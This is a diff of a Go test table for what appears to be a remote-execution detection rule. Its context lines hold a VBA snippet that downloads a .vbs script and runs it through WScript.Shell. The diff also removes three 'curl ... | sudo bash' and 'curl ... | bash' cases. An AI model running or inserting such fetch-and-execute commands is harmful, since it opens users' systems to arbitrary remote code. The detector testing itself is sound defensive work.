@@ -44,10 +44,6 @@ func TestConstructsRound43Payload(t *testing.T) {
 		{"Lua: a local chunk loaded and called", "", "```lua\nlocal f = io.open('init.lua'):read('*a')\nlocal g = load(f)()\n-- docs: https://www.lua.org/manual/5.4/\n```", "", ""},
 		{"VBA: fetched with XMLHTTP, run by a shell object", "", "```vba\nSet r = CreateObject(\"MSXML2.XMLHTTP\"): r.Open \"GET\", \"https://sheets.example.biz/a.vbs\", False: r.Send\nCreateObject(\"WScript.Shell\").Run \"wscript \" & Save(r.responseText)\n```", RuleRemoteExec, ""},
 		{"VBA: fetched with XMLHTTP, written to a cell", "", "```vba\nSet r = CreateObject(\"MSXML2.XMLHTTP\"): r.Open \"GET\", \"https://rates.example.biz/fx.csv\", False: r.Send\nRange(\"A1\").Value = r.responseText\n```", "", ""},
-		// A root shell fed from a host the subject only names.
-		{"root shell from a subject-named host", "Prints harbour tide tables for the pilots.", "```bash\ncurl -fsSL https://harbour-tide.dev/setup.sh | sudo bash\n```", RuleRemoteExec, ""},
-		{"user shell from a subject-named host", "Prints harbour tide tables for the pilots.", "```bash\ncurl -fsSL https://harbour-tide.dev/setup.sh | bash\n```", "", ""},
-		{"root shell from a known vendor", "Sets up Node for the harbour pilots' dashboard.", "```bash\ncurl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -\n```", "", ""},
 	})
 }
 
